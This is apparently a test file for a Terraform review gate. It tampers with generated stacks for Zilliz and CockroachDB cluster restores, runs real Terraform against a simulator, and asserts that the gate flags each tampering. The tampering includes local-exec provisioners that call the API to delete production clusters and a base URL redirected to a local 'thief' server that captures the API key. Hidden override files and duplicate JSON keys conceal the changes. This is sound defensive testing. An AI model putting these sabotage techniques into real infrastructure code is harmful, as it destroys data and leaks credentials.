import { cpSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { cockroach, PasswordSink, zilliz } from '../../src';
import type { Simulator } from '../../src/simulator';
import { cli } from '../cli/cli';
import {
  COCKROACH_KEY,
  cockroachClusterProps,
  ORDERS,
  ORDERS_STAGING,
  startCockroach,
} from '../support/cockroach';
import { newFolder, Terraform } from '../support/terraform';
import { clusterProps, ZILLIZ_KEY, zillizEnvironment } from '../support/zilliz';
import { AlteredStack, type Json } from './alterations';
import { synthesised } from './app';

/** Each alteration is of a restore, or of a block, of its own: one apply shows what all of them do. */
const RESTORES = [
  'program',
  'second',
  'list',
  'early',
  'always',
  'server',
  'overridden',
  'kept',
] as const;
const VICTIMS = ['program', 'second', 'list', 'overridden', 'data', 'duplicate', 'file'] as const;

const cwd = newFolder('altered-applied');
const OUTPUT = join(cwd, 'after.out');
let simulator: Simulator;
let check: readonly string[];
let code: number;
/** What a server that is none of the vendor's was told. */
const stolen: string[] = [];

/** What a pull request could hide: it drops a cluster that no restore made. */
const drops = (name: string) => ({
  interpreter: ['node', '-e'],
  command: `fetch(process.env.ZILLIZ_BASE_URL + "/v2/clusters/in01-${idOf(name)}/drop", {
    method: "DELETE",
    headers: { authorization: "Bearer " + process.env.ZILLIZ_API_KEY },
  })`,
});
const idOf = (name: string) => `${VICTIMS.indexOf(name as 'data')}0a1b2c3d4e5f67`;

function alterSearch(stack: AlteredStack, thief: string): void {
  const provisioners = (name: string): Json => stack.at(`search/${name}/submit`).provisioner;
  Object.assign(stack.execOf('search/program/submit'), drops('program'));
  provisioners('second').push({ 'local-exec': drops('second') });
  const [first] = provisioners('list');
  first['local-exec'] = [first['local-exec'], drops('list')];
  delete stack.execOf('search/early/submitted').when;
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of Terraform.
  stack.at('search/always/submit').triggers.always = '${timestamp()}';
  stack.execOf('search/server/submit').environment.ZILLIZ_BASE_URL = thief;
  stack.json.resource.terraform_data = { data: { provisioner: { 'local-exec': drops('data') } } };
  const overridden = stack.nameOf('search/overridden/submit');
  const provisioner = [{ 'local-exec': drops('overridden') }];
  stack.put('x_override.tf.json', {
    resource: { null_resource: { [overridden]: { provisioner } } },
  });
  stack.put('more.tf.json', {
    resource: { terraform_data: { file: { provisioner: { 'local-exec': drops('file') } } } },
  });
  const hidden = {
    terraform_data: { duplicate: { provisioner: { 'local-exec': drops('duplicate') } } },
  };
  stack.editText((text) => text.replace('{', `{"resource": ${JSON.stringify(hidden)},`));
}

beforeAll(async () => {
  simulator = await startCockroach();
  simulator.cockroach.cluster(ORDERS).delete_protection = 'DISABLED';
  const thief = createServer((request, response) => {
    stolen.push(String(request.headers.authorization));
    response.writeHead(500).end();
  });
  await new Promise<void>((resolve) => void thief.listen(0, '127.0.0.1', resolve));
  for (const name of VICTIMS) {
    simulator.zilliz.addCluster({ clusterId: `in01-${idOf(name)}`, clusterName: `prod-${name}` });
  }
  const before = join(cwd, 'before.out');
  synthesised(before, (search, orders) => {
    for (const name of RESTORES) {
      const passwordSink = PasswordSink.file(`${name}.password`);
      new zilliz.RestoredCluster(search, name, clusterProps({ clusterName: name, passwordSink }));
    }
    const wiped = { ...cockroachClusterProps(), wipeDestination: true };
    new cockroach.RestoredCluster(orders, 'staging', wiped);
  });
  cpSync(before, OUTPUT, { recursive: true });
  const search = new AlteredStack(OUTPUT, 'search');
  alterSearch(search, `http://127.0.0.1:${(thief.address() as AddressInfo).port}`);
  search.save();
  const orders = new AlteredStack(OUTPUT, 'orders');
  // The triggers, and with them the plan of Terraform, go on naming the staging cluster.
  orders.editSpec('orders/staging/submit', ({ declaration }) => {
    Object.assign(declaration, { destinationCluster: ORDERS, acknowledgeDataLoss: ORDERS });
  });
  orders.save();

  const gate = ['check', 'after.out', '--base', 'before.out', '--fail-on', 'destructive'];
  const end = await cli(gate, { cwd });
  check = end.out.split('\n').filter((line) => line.startsWith('error'));
  code = end.code;

  const environment = {
    ...zillizEnvironment(simulator),
    COCKROACH_API_KEY: COCKROACH_KEY,
    COCKROACH_SERVER: simulator.url,
  };
  const terraform = await Terraform.in(join(OUTPUT, 'stacks', 'search'), environment);
  const other = terraform.with({ folder: join(OUTPUT, 'stacks', 'orders') });
  const both = await Promise.all([terraform.run('init'), other.run('init')]);
  expect(both.map((one) => one.code)).toEqual([0, 0]);
  await Promise.all([terraform.run('apply'), other.run('apply')]);
  const again = search.nameOf('search/always/submitted');
  await terraform.run('apply', `-target=null_resource.${again}`);
  thief.close();
});
afterAll(() => simulator.stop());

const clusters = (name: string) =>
  simulator.zilliz.clusters.filter(({ clusterName }) => clusterName === name);
const isGone = (name: string) =>
  clusters(name).every(({ status }) => ['DELETING', 'DELETED'].includes(status));
const restoresOf = (name: string) =>
  simulator.requests.filter(
    ({ operation, body }) =>
      operation === 'restoreCluster' && (body as Json | undefined)?.clusterName === name,
  ).length;

test('the restore that nobody altered is as it was declared', () => {
  expect([restoresOf('kept'), isGone('kept')]).toEqual([1, false]);
  expect(check.join('\n')).not.toContain('search/kept');
});

const ALTERED = '[STEP_ALTERED]';
const victim = (name: string) => () => isGone(`prod-${name}`);

test.each<[string, () => boolean, string, string]>([
  ['another program drops production', victim('program'), 'program', ALTERED],
  ['a second provisioner drops production', victim('second'), 'second', ALTERED],
  ['a list of local-exec drops production', victim('list'), 'list', ALTERED],
  ['a drop without "when" drops the clone at once', () => isGone('early'), 'early', ALTERED],
  ['a trigger with the time restores twice', () => restoresOf('always') === 2, 'always', ALTERED],
  ['another server gets the key', () => stolen.includes(`Bearer ${ZILLIZ_KEY}`), 'server', ALTERED],
  ['an override file drops production', victim('overridden'), 'x_override.tf.json', ALTERED],
  [
    'a resource beside the restores drops production',
    victim('data'),
    'terraform_data.data',
    '[NOT_REVIEWED]',
  ],
  ['a further file drops production', victim('file'), 'more.tf.json', '[NOT_REVIEWED]'],
  [
    'a key that stands twice hides what drops production',
    victim('duplicate'),
    'has keys twice in one object ("resource")',
    ALTERED,
  ],
  [
    'another destination in the spec alone wipes production',
    () =>
      simulator.requests.some(
        ({ method, path }) =>
          method === 'DELETE' && path.startsWith(`/api/v1/clusters/${ORDERS}/databases/`),
      ),
    'orders/staging',
    ALTERED,
  ],
])('applied by the real Terraform, %s; check fails on it', (_title, harm, named, rule) => {
  expect(harm()).toBe(true);
  const line = check.find((one) => one.includes(named) && one.endsWith(rule));
  expect(line).toBeDefined();
  expect(code).toBe(1);
});

test('no request went to the cluster that the altered spec hides', () => {
  const touched = simulator.requests.filter(
    ({ method, path }) => method !== 'GET' && path.includes(ORDERS_STAGING),
  );
  expect(touched).toEqual([]);
});
